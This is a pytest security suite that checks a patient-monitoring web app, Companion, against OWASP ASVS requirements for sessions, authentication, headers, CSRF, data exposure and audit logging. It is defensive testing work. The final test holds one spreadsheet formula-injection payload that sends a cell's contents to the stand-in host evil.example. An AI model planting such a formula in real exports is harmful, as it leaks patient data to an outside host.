"""OWASP ASVS 5.0.0 level-2 checks that apply to Companion, one test per requirement (named after it).

Routes are generated from the URL map (see matrix.py), so a new page is covered the day it lands.
"""
import json
import logging
import re
import time
from datetime import timedelta
from urllib.parse import parse_qsl, urlsplit

import pytest
from sqlalchemy import func, select

from companion import clock
from companion.audit.models import AuditEvent
from companion.extensions import db
from tests.conftest import FIXED_NOW, HX, PASSWORD, login
from tests.security.expectations import TABLE
from tests.security.matrix import routes
from tests.security.records import RED_FLAG, SYMPTOM_NOTE, entry_form, seed_patient_a
from tests.security import sweep as sweeping

PUBLIC_CACHEABLE = {"static", "pwa.manifest", "pwa.icon", "pwa.service_worker"}


@pytest.fixture(scope="module")
def sweep(tmp_path_factory) -> sweeping.Sweep:
    """Every GET route as anonymous, patients, caregivers and staff of both clinics (run once per module)."""
    return sweeping.run(tmp_path_factory.mktemp("sweep"))


@pytest.fixture
def records(app, world):
    """Patient A's diary, photo, case, consent, refills and more."""
    return seed_patient_a(app, world)


def _cookie(client, name: str = "companion"):
    """The session cookie's value in a test client (None when there is none)."""
    cookie = client.get_cookie(name)
    return cookie.value if cookie else None


def _set_session(client, **values) -> None:
    """Change values inside the signed session cookie, as time passing would."""
    with client.session_transaction() as session:
        session.update(values)


def _signed_in(client) -> bool:
    """Whether the client's session still opens a signed-in page."""
    response = client.get("/account")
    return response.status_code == 200


# ---- V7 Session management ----

def test_v7_2_4_new_session_token_on_sign_in(app, client, world):
    client.get("/login")
    _set_session(client, planted="attacker-chosen")  # a session fixed before sign-in (session fixation)
    before = _cookie(client)
    login(client, world.patient_a_user)
    after = _cookie(client)
    assert after and after != before
    with client.session_transaction() as session:
        assert "planted" not in session and session["login_at"] == session["seen_at"]
    # The pre-sign-in cookie never becomes a signed-in session.
    stale = app.test_client()
    stale.set_cookie("companion", before)
    assert not _signed_in(stale)
    # Re-authentication starts a fresh session again: nothing from the earlier one carries over.
    _set_session(client, planted="set while signed in", acting_for=world.patient_b.id)
    login(client, world.patient_a_user)
    with client.session_transaction() as session:
        assert "planted" not in session and "acting_for" not in session
    assert _signed_in(client)


def test_v7_2_4_new_session_token_on_two_factor_sign_in(app, client, world):
    """Password, then code: each step starts a new session, and neither earlier cookie is signed in after."""
    import pyotp

    client.get("/login")
    _set_session(client, planted="attacker-chosen")
    fixed = _cookie(client)
    assert client.post("/login", data={"email": world.admin1.email, "password": PASSWORD}).status_code == 302
    pending = _cookie(client)
    with client.session_transaction() as session:
        assert "planted" not in session and "_user_id" not in session
    assert client.post("/login/two-factor",
                       data={"code": pyotp.TOTP(world.admin1.totp_secret).now()}).status_code == 302
    after = _cookie(client)
    assert len({fixed, pending, after}) == 3 and _signed_in(client)
    with client.session_transaction() as session:
        assert "pending_2fa" not in session and "planted" not in session
    for earlier in (fixed, pending):
        stale = app.test_client()
        stale.set_cookie("companion", earlier)
        assert not _signed_in(stale)


def test_v7_3_1_staff_session_ends_after_inactivity(app, client, world):
    login(client, world.nurse1)
    idle = app.config["STAFF_IDLE_MINUTES"] * 60
    _set_session(client, seen_at=int(time.time()) - idle + 60)
    assert client.get("/care").status_code == 200  # a minute before the limit: still in, and activity counts
    _set_session(client, seen_at=int(time.time()) - idle - 5)
    response = client.get("/care")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.get("/care", headers=HX).headers["HX-Redirect"].startswith("/login")
    assert not _signed_in(client)


def test_v7_3_1_background_polls_do_not_keep_a_staff_session_alive(client, world):
    login(client, world.nurse1)
    stamp = int(time.time()) - 600
    _set_session(client, seen_at=stamp)
    assert client.get("/care/queue?poll=1", headers=HX).status_code == 200
    with client.session_transaction() as session:
        assert session["seen_at"] == stamp


def test_v7_3_2_absolute_session_lifetime(app, client, world):
    login(client, world.nurse1)
    _set_session(client, login_at=int(time.time()) - app.config["STAFF_ABSOLUTE_HOURS"] * 3600 - 5)
    assert client.get("/care").status_code == 302 and not _signed_in(client)
    patient = app.test_client()
    login(patient, world.patient_a_user)
    _set_session(patient, seen_at=int(time.time()) - 3 * 86400)  # patients keep their phone session for days
    assert _signed_in(patient)
    _set_session(patient, login_at=int(time.time()) - app.config["PATIENT_SESSION_DAYS"] * 86400 - 5)
    assert patient.get("/").status_code == 302 and not _signed_in(patient)


def test_v7_4_1_logout_ends_the_session_everywhere(app, client, world):
    login(client, world.nurse1)
    copy = _cookie(client)
    response = client.post("/logout")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert not _signed_in(client)
    stolen = app.test_client()
    stolen.set_cookie("companion", copy)
    assert not _signed_in(stolen)  # the token inside the old cookie was rotated on the server
    assert db.session.scalar(select(func.count()).where(AuditEvent.action == "sign_out",
                                                        AuditEvent.user_id == world.nurse1.id)) == 1


def test_v7_4_2_deactivating_an_account_ends_its_sessions(app, client, world):
    from companion.accounts import services

    login(client, world.nurse1)
    assert _signed_in(client)
    services.set_active(world.admin1, world.nurse1, False)
    assert client.get("/care").status_code == 302 and not _signed_in(client)
    assert login(client, world.nurse1).status_code == 422  # and cannot sign in again


def test_v7_4_3_password_change_ends_other_sessions(app, client, world):
    other = app.test_client()
    login(client, world.patient_a_user)
    login(other, world.patient_a_user)
    new = "a brand new long passphrase"
    response = client.post("/account/password", data={"current_password": PASSWORD, "password": new,
                                                      "confirm": new, "sign_out_others": "y"})
    assert response.status_code == 302
    assert _signed_in(client) and not _signed_in(other)
    assert login(other, world.patient_a_user.email, new).status_code == 302


def test_v7_4_3_password_change_may_keep_other_sessions_and_still_renews_this_one(app, client, world):
    other = app.test_client()
    login(client, world.patient_a_user)
    login(other, world.patient_a_user)
    before = _cookie(client)
    new = "a brand new long passphrase"
    response = client.post("/account/password", data={"current_password": PASSWORD, "password": new,
                                                      "confirm": new})  # the box unticked
    assert response.status_code == 302 and _cookie(client) != before
    assert _signed_in(client) and _signed_in(other)


# ---- V6 Authentication ----

def test_v6_3_1_sign_in_is_throttled_per_account_and_per_address(app, client, world):
    limit = app.config["LOGIN_MAX_FAILURES"]
    for _ in range(limit):
        assert login(client, world.patient_a_user, "wrong password!").status_code == 422
    refused = login(client, world.patient_a_user)  # the right password, too late
    assert refused.status_code == 422 and "Too many tries" in refused.get_data(as_text=True)
    clock.freeze(FIXED_NOW + timedelta(minutes=app.config["LOGIN_WINDOW_MINUTES"] + 1))
    assert login(client, world.patient_a_user).status_code == 302  # the window passes: no lasting lock-out
    clock.freeze(FIXED_NOW + timedelta(hours=1))
    for n in range(limit * 4):  # one address trying many accounts
        login(app.test_client(), f"guess{n}@test.example", "wrong password!")
    sprayed = login(app.test_client(), world.patient_b_user)
    assert sprayed.status_code == 422 and "Too many tries" in sprayed.get_data(as_text=True)


def test_v6_3_8_sign_in_does_not_reveal_which_emails_have_accounts(app, world):
    def attempt(email):
        response = login(app.test_client(), email, "not the password")
        body = response.get_data(as_text=True).replace(email, "EMAIL")
        body = re.sub(r'name="csrf_token" value="[^"]+"', "TOKEN", body)  # the language form's token: per session
        return response.status_code, re.sub(r'"X-CSRFToken": "[^"]+"', "TOKEN", body)  # random per session

    assert attempt(world.patient_a_user.email) == attempt("nobody-here@test.example")
    for _ in range(app.config["LOGIN_MAX_FAILURES"]):  # throttling answers alike too
        attempt(world.patient_b_user.email)
        attempt("also-nobody@test.example")
    assert attempt(world.patient_b_user.email) == attempt("also-nobody@test.example")


def test_v11_4_2_passwords_are_stored_with_argon2id_at_production_strength(tmp_path, monkeypatch):
    from companion import config

    monkeypatch.setenv("COMPANION_ENV", "production")
    monkeypatch.setenv("SECRET_KEY", "x" * 64)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'p.sqlite3'}")
    monkeypatch.delenv("ARGON2_PROFILE", raising=False)
    settings = config.load()
    assert settings["ARGON2_PROFILE"] != "test"
    from companion import create_app
    from companion.accounts.passwords import hash_password, verify_password

    app = create_app({"SQLALCHEMY_DATABASE_URI": settings["SQLALCHEMY_DATABASE_URI"]})
    with app.app_context():
        stored = hash_password(PASSWORD)
        assert verify_password(stored, PASSWORD) and not verify_password(stored, PASSWORD + "x")
    match = re.fullmatch(r"\$argon2id\$v=19\$m=(\d+),t=(\d+),p=(\d+)\$[A-Za-z0-9+/]+\$[A-Za-z0-9+/]+", stored)
    assert match, stored
    memory, time_cost, _lanes = map(int, match.groups())
    assert memory >= 19456 and time_cost >= 2  # OWASP Password Storage Cheat Sheet minimum


# ---- V3 Web frontend ----

def test_v3_3_1_and_v3_3_4_session_cookie_is_secure_host_prefixed_and_httponly(app, world, monkeypatch):
    from companion import config

    monkeypatch.setenv("COMPANION_ENV", "production")
    monkeypatch.setenv("SECRET_KEY", "x" * 64)
    monkeypatch.setenv("DATABASE_URL", "sqlite://")
    production = config.load()
    assert production["SESSION_COOKIE_SECURE"] and production["SESSION_COOKIE_NAME"].startswith("__Host-")
    app.config.update(SESSION_COOKIE_SECURE=True, SESSION_COOKIE_NAME=production["SESSION_COOKIE_NAME"])
    client = app.test_client()
    response = client.post("/login", data={"email": world.patient_a_user.email, "password": PASSWORD},
                           base_url="https://localhost")
    cookie = response.headers["Set-Cookie"]
    assert cookie.startswith("__Host-companion=") and "; Secure" in cookie and "; HttpOnly" in cookie
    assert "; Path=/" in cookie and "Domain=" not in cookie and "SameSite=Lax" in cookie


def _all_hits(sweep):
    assert len({h.route.endpoint for h in sweep.hits if h.route}) >= len(
        {r.endpoint for r in sweep.routes if r.method == "GET"})
    return sweep.hits


def test_v3_4_3_csp_on_every_response(sweep):
    wrong = []
    for hit in _all_hits(sweep):
        csp = hit.headers.get("Content-Security-Policy", "")
        directives = dict((d.strip().split(" ", 1) + [""])[:2] for d in csp.split(";") if d.strip())
        if not (directives.get("object-src") == "'none'" and directives.get("base-uri") == "'none'"
                and directives.get("script-src") == "'self'" and directives.get("default-src") == "'self'"
                and "unsafe" not in csp):
            wrong.append(f"{hit.who} {hit.url} {hit.status}: {csp!r}")
    assert wrong == []


def test_v3_4_4_nosniff_on_every_response(sweep):
    assert [h.url for h in _all_hits(sweep) if h.headers.get("X-Content-Type-Options") != "nosniff"] == []


def test_v3_4_5_referrer_policy_on_every_response(sweep):
    allowed = {"no-referrer", "same-origin", "strict-origin", "strict-origin-when-cross-origin"}
    assert [h.url for h in _all_hits(sweep) if h.headers.get("Referrer-Policy") not in allowed] == []


def test_v3_4_6_csp_frame_ancestors_on_every_response(sweep):
    missing = [h.url for h in _all_hits(sweep)
               if "frame-ancestors 'none'" not in h.headers.get("Content-Security-Policy", "")]
    assert missing == []


def test_v3_4_1_hsts_on_every_https_response(app, client, world, tmp_path):
    login(client, world.patient_a_user)
    for path in ("/", "/login", "/checkin", "/static/css/app.css", "/no-such-page"):
        response = client.get(path, base_url="https://localhost")
        hsts = response.headers.get("Strict-Transport-Security", "")
        age = int(re.search(r"max-age=(\d+)", hsts).group(1)) if "max-age" in hsts else 0
        assert age >= 31536000 and "includeSubDomains" in hsts, path
    # Behind the TLS proxy (TRUSTED_PROXIES=1, production's default), X-Forwarded-Proto marks the request secure.
    from tests.conftest import make_app

    (tmp_path / "proxied").mkdir()
    db.session.remove()  # end this app's open transaction: on PostgreSQL the second app's reset would wait on it
    proxied_app = make_app(tmp_path / "proxied", TRUSTED_PROXIES=1)
    proxied = proxied_app.test_client().get("/login", headers={"X-Forwarded-Proto": "https"})
    assert "max-age=31536000" in proxied.headers.get("Strict-Transport-Security", "")


def test_v3_5_1_csrf_token_required_on_every_state_change(app, world, records):
    """Every POST route, tried by someone allowed to use it, is refused (400) without the token."""
    from companion.web import PATIENT_SIDE, STAFF

    people = {"anonymous": None, "patient": world.patient_a_user, "caregiver": world.caregiver,
              "nurse": world.nurse1, "physician": world.physician1, "admin": world.admin1}
    clients = {}
    for key, user in people.items():
        clients[key] = app.test_client()
        if user:
            login(clients[key], user)
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        posts = [r for r in routes(app, world, records) if r.method == "POST"]
        refused, accepted = [], []
        for route in posts:
            roles, _scope = TABLE[route.endpoint]
            key = next((k for k in ("patient", "caregiver", "nurse", "physician", "admin")
                        if k in roles or not roles and k == "patient"), "anonymous")
            for headers in ({}, HX, {"X-CSRFToken": "forged"}):
                status = clients[key].post(route.url, data={"x": "1"}, headers=headers).status_code
                (refused if status == 400 else accepted).append((route.endpoint, key, headers, status))
        assert accepted == [], accepted
        assert {r[0] for r in refused} == {r.endpoint for r in posts}  # every POST route was tried
        assert {r[1] for r in refused} >= {"anonymous", *PATIENT_SIDE, *STAFF}  # by every kind of person
        # Still signed in: the refusals happened before any view ran.
        assert _signed_in(clients["patient"]) and _signed_in(clients["nurse"])
    finally:
        app.config["WTF_CSRF_ENABLED"] = False


def test_v3_5_3_no_state_change_on_get(sweep):
    changed = [f"{h.who} GET {h.url}: {h.changed_tables}" for h in sweep.hits if h.changed_tables]
    assert changed == []
    assert not any(TABLE[r.endpoint][1] == "signed_in" for r in sweep.routes if r.method == "GET")  # logout


# ---- V14 Data protection ----

def test_v14_3_2_no_store_on_every_page_with_personal_data(sweep):
    wrong = [f"{h.who} {h.url}: {h.headers.get('Cache-Control')}" for h in _all_hits(sweep)
             if (h.route is None or h.route.endpoint not in PUBLIC_CACHEABLE)
             and "no-store" not in h.headers.get("Cache-Control", "")]
    assert wrong == []
    patient_pages = [h for h in sweep.hits if h.who == "patient_a_user" and h.status == 200 and h.route
                     and TABLE[h.route.endpoint][1] in ("patient", "a_data")]
    assert len(patient_pages) >= 15
    assert all(h.headers["Cache-Control"] == "no-store" for h in patient_pages)


def test_v14_3_1_logout_clears_the_browsers_storage(client, world):
    login(client, world.patient_a_user)
    response = client.post("/logout")
    cleared = {part.strip().strip('"') for part in response.headers.get("Clear-Site-Data", "").split(",")}
    assert {"cache", "storage"} <= cleared
    # both must hold: the browser is told to drop the cookie, and the session no longer opens a page
    cookies = [c for c in response.headers.getlist("Set-Cookie") if c.startswith("companion=")]
    assert len(cookies) == 1 and cookies[0].startswith("companion=;") and "Max-Age=0" in cookies[0]
    assert not _signed_in(client)


SENSITIVE_WORDS = {"name", "email", "mail", "dob", "birth", "birthday", "phone", "mrn", "address", "symptom", "note",
                   "given", "family", "surname", "record_number"}


def test_v14_2_1_no_sensitive_data_in_urls(app, sweep):
    bad_args = [f"{rule.rule}: {arg}" for rule in app.url_map.iter_rules() for arg in rule.arguments
                if set(arg.lower().split("_")) & SENSITIVE_WORDS or arg.lower() in SENSITIVE_WORDS]
    assert bad_args == []
    secrets = [s.lower() for values in sweep.secrets.values() for s in values]
    found, links = [], 0
    for hit in sweep.hits:
        targets = re.findall(r'(?:href|src|action|hx-get|hx-post|hx-delete|hx-put)="([^"]*)"', hit.body)
        targets += [hit.headers.get("Location", ""), hit.headers.get("HX-Redirect", "")]
        for target in filter(None, targets):
            links += 1
            parts = urlsplit(target.replace("&amp;", "&"))
            names = [f"{k}={v}" for k, v in parse_qsl(parts.query)] + [parts.path, parts.fragment]
            found += [f"{hit.url} -> {target}" for item in names for s in secrets if s in item.lower()]
    assert links > 500 and found == []


# Free-text fields that would carry a name, email or record number; a GET form would put them in the URL.
SENSITIVE_INPUTS = {"q", "search", "name", "given_name", "family_name", "email", "mrn", "record_number", "patient"}


def test_v14_2_1_no_get_form_or_htmx_history_carries_names_or_record_numbers(sweep):
    """Every form on every page, as every role: a GET form has no free-text name/email/record-number field,
    and no search pushes its term into the history."""
    from tests.security.forms import forms_in

    wrong, seen = [], 0
    for hit in sweep.hits:
        if hit.status != 200 or "<form" not in hit.body:
            continue
        for form in forms_in(hit.url, hit.body):
            seen += 1
            typed = [f.name for f in form.fields.values() if f.kind in ("text", "search", "email", "tel", "textarea")
                     and f.name.lower() in SENSITIVE_INPUTS]
            if form.method == "get" and typed:
                wrong.append(f"{hit.who} {hit.url}: GET {form.action} with {typed}")
        wrong += [f"{hit.who} {hit.url}: {tag[:120]}" for tag in re.findall(r"<form[^>]*>", hit.body)
                  if "hx-push-url" in tag and "hx-get" in tag]
    assert seen > 100 and wrong == []


def test_v14_2_1_roster_search_travels_in_the_body(app, client, world):
    login(client, world.nurse1)
    page = client.get("/care/patients").get_data(as_text=True)
    [form] = re.findall(r'<form role="search"[^>]*>', page)
    assert 'method="post"' in form and 'hx-post="/care/patients/search"' in form and "hx-push-url" not in form
    term = world.patient_b.record_number
    for headers in ({}, HX):
        response = client.post("/care/patients/search", data={"q": term}, headers=headers)
        html = response.get_data(as_text=True)
        assert response.status_code == 200 and "Bruno" in html and "Alice" not in html
        assert ("<html" in html) == (not headers) and term not in response.request.url
        assert "Location" not in response.headers and "HX-Push-Url" not in response.headers
    assert "Alice" in client.get(f"/care/patients?q={term}").get_data(as_text=True)  # a URL term is ignored
    searched = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "roster_viewed",
                                                           AuditEvent.user_id == world.nurse1.id)).all()
    assert [e.detail["searched"] for e in searched] == [False, True, True, False]
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        assert client.post("/care/patients/search", data={"q": term}).status_code == 400
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    patient = app.test_client()
    login(patient, world.patient_a_user)
    assert patient.post("/care/patients/search", data={"q": "Bruno"}).status_code == 403


def test_v14_2_1_audit_log_filter_posts_the_record_number_and_links_carry_the_id(client, world):
    login(client, world.admin1)
    page = client.get("/admin/audit").get_data(as_text=True)
    assert re.search(r'<form method="post" action="/admin/audit"', page)
    record_number = world.patient_a.record_number
    response = client.post("/admin/audit", data={"patient": record_number})
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and f'value="{record_number}"' in html
    links = re.findall(r'href="(/admin/audit[^"]*)"', html)
    assert any(f"patient_id={world.patient_a.id}" in link for link in links)
    assert not [link for link in links if record_number in link]
    by_id = client.get(f"/admin/audit?patient_id={world.patient_a.id}")
    assert by_id.status_code == 200 and f'value="{record_number}"' in by_id.get_data(as_text=True)
    assert client.get(f"/admin/audit?patient_id={world.patient_c2.id}").status_code == 422  # another clinic's


def test_v16_2_5_no_patient_data_in_logs_during_a_red_flag_check_in(app, client, world):
    """A red-flag check-in with the mail server down: the warnings and errors logged carry no patient data."""
    records = []

    class Keep(logging.Handler):
        def emit(self, record):
            records.append(record)

    handler, root = Keep(level=logging.DEBUG), logging.getLogger()
    old_level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    app.config["SMTP_URL"] = "smtp://127.0.0.1:9"  # nothing listens there: delivery fails and is logged
    try:
        login(client, world.patient_a_user)
        response = client.post("/checkin", data=entry_form(RED_FLAG))
        assert response.status_code == 200
        from companion.notify import dispatcher

        dispatcher.dispatch_due(FIXED_NOW + timedelta(hours=1))
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)
        app.config["SMTP_URL"] = ""
    from companion.escalation.models import Case

    case = db.session.scalar(select(Case).where(Case.patient_id == world.patient_a.id))
    texts = [r["patient_text"] for r in case.reasons] + [r["staff_text"] for r in case.reasons]
    patient = world.patient_a
    forbidden = [patient.given_name, patient.family_name, patient.record_number, patient.user.email,
                 SYMPTOM_NOTE, *texts]
    assert any(r.levelno >= logging.WARNING for r in records), "the failed delivery should have been logged"
    logged = []
    for record in records:
        message = record.getMessage() + (logging.Formatter().formatException(record.exc_info)
                                         if record.exc_info else "")
        logged += [f"{record.name}: {value}" for value in forbidden if value and value in message]
    assert logged == []


def test_v14_2_3_emails_and_push_payloads_carry_no_patient_data(app, client, world):
    """Email and push go through outside services: only "open Companion" wording, never names or symptoms."""
    from companion.notify import dispatcher
    from companion.notify import services as notify
    from tests.notify.conftest import PushEndpoint, Smtp

    smtp, push = Smtp(), PushEndpoint()
    smtp.start()
    app.config.update(SMTP_URL=smtp.url, VAPID_DIR=str(app.config["UPLOAD_DIR"]) + "/vapid",
                      PUSH_ALLOWED_HOSTS=["127.0.0.1"], PUSH_ALLOW_HTTP=True)
    try:
        for user in (world.nurse1, world.patient_a_user):
            notify.subscribe(user, endpoint=push.url, **push.keys())
        db.session.commit()
        login(client, world.patient_a_user)
        assert client.post("/checkin", data=entry_form(RED_FLAG)).status_code == 200
        from companion.escalation.models import Case

        case = db.session.scalar(select(Case).where(Case.patient_id == world.patient_a.id))
        nurse = app.test_client()
        login(nurse, world.nurse1)
        nurse.post(f"/care/cases/{case.id}/acknowledge")
        nurse.post(f"/care/cases/{case.id}/resolve", data={"resolution": "advice_by_phone",
                                                           "note": "Call us about the Quillfeather tingling"})
        dispatcher.dispatch_due(FIXED_NOW + timedelta(hours=1))
        emails = [(m["Subject"] or "") + "\n" + m.get_payload() for m in smtp.inbox.messages]
        pushes = [p.decode() for p in push.decrypted()]
    finally:
        smtp.stop()
        push.server.shutdown()
        app.config["SMTP_URL"] = ""
    assert emails and pushes, "the case should have sent email and push"
    texts = [r["patient_text"] for r in case.reasons] + [r["staff_text"] for r in case.reasons]
    patient = world.patient_a
    forbidden = [patient.given_name, patient.family_name, patient.record_number, "Quillfeather", *texts]
    leaks = [(text, value) for text in emails + pushes for value in forbidden if value and value in text]
    assert leaks == []
    for payload in pushes:
        # The patient's push opens the app; the staff push opens the case page (an id, no patient data).
        url = json.loads(payload)["url"]
        assert set(json.loads(payload)) <= {"title", "body", "url"} and (url == "/" or url == f"/care/cases/{case.id}")


# ---- V16 Security events ----

def test_v16_3_1_every_sign_in_attempt_is_audited(app, client, world):
    login(client, world.patient_a_user, "wrong password!")
    login(client, "nobody@test.example", "wrong password!")
    login(client, world.patient_a_user)
    admin = app.test_client()
    admin.post("/login", data={"email": world.admin1.email, "password": PASSWORD})
    admin.post("/login/two-factor", data={"code": "000000"})
    events = db.session.execute(select(AuditEvent.action, AuditEvent.user_id, AuditEvent.outcome, AuditEvent.ip)
                                .order_by(AuditEvent.id)).all()
    actions = [e.action for e in events]
    assert actions.count("sign_in_failed") == 2 and "two_factor_failed" in actions
    assert ("sign_in", world.patient_a_user.id, "ok") in [(e.action, e.user_id, e.outcome) for e in events]
    assert all(e.ip for e in events if e.action.startswith("sign_in"))


def test_v16_3_2_failed_authorisation_is_audited(sweep):
    """Every 403 and every 404 on a real route for a signed-in person leaves an `access_refused` event."""
    missing = [f"{h.who} {h.url} {h.status}" for h in sweep.hits
               if h.who != "anonymous" and h.route and h.status in (403, 404)
               and not any(a[0] == "access_refused" and a[3] == "refused" for a in h.audits)]
    assert missing == []
    refused = [h for h in sweep.hits if h.status in (403, 404) and h.who != "anonymous" and h.route]
    assert len(refused) > 100
    once = [h.url for h in refused if sum(a[0] == "access_refused" for a in h.audits) != 1]
    assert once == []  # one event per refusal, not two


def test_v16_3_2_every_staff_view_of_patient_data_is_audited(sweep):
    """HIPAA 164.312(b) and ASVS 16.3.2 at L3: any staff page showing a patient's name or record is audited."""
    names = [v for key in ("a", "b") for v in sweep.secrets[key][:3]]
    unaudited = []
    for hit in sweep.hits:
        if hit.role not in ("nurse", "physician", "admin") or hit.status != 200 or hit.route is None:
            continue
        shows_patient = any(name in hit.body for name in names) or hit.route.endpoint in (
            "diary.photo", "consent.staff_pdf")
        if shows_patient and not any(a[2] == sweep.user_ids[hit.who] and a[3] == "ok" for a in hit.audits):
            unaudited.append(f"{hit.who} {hit.url}")
    assert unaudited == []
    record_views = [a for h in sweep.hits if h.who == "nurse1" and h.route
                    and TABLE[h.route.endpoint][1] == "a_data" and h.status == 200 for a in h.audits]
    assert record_views and all(a[1] == sweep.patient_a_id for a in record_views)


# ---- V1 Encoding ----

def test_v1_2_10_csv_exports_neutralise_spreadsheet_formulas(app, client, world):
    """Text a patient typed cannot run as a formula when the care team opens the CSV in a spreadsheet."""
    login(client, world.patient_a_user)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert client.post("/checkin", data=entry_form({**RED_FLAG, "note": formula})).status_code == 200
    nurse = app.test_client()
    login(nurse, world.nurse1)
    for who, path in ((client, "/account/export/diary.csv"),
                      (nurse, f"/care/patients/{world.patient_a.id}/export/diary.csv")):
        response = who.get(path)
        assert response.status_code == 200 and response.mimetype == "text/csv"
        import csv
        import io

        cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
        assert any("HYPERLINK" in c for c in cells), path
        assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-") and not
                    re.fullmatch(r"-[\d.]+", c)], path
